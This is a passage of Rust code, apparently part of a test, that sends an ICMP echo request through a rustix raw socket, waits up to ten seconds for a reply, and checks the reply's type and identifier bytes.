    sendto(&socket, &request, SendFlags::empty(), &to).expect("send a request");
    let mut packet = [0; 1500];
    loop {
        let time = Timespec { tv_sec: 10, tv_nsec: 0 };
        let ready = rustix::event::poll(&mut [PollFd::new(&socket, PollFlags::IN)], Some(&time));
        assert_eq!(ready, Ok(1), "no reply");
        let (length, _) = recv(&socket, &mut packet, RecvFlags::empty()).expect("receive");
        // An IP header of 20 bytes comes first. Type 0 is a reply.
        if length >= 28 && packet[20] == 0 && packet[24..26] == request[4..6] {
            return;
        }
    }
}
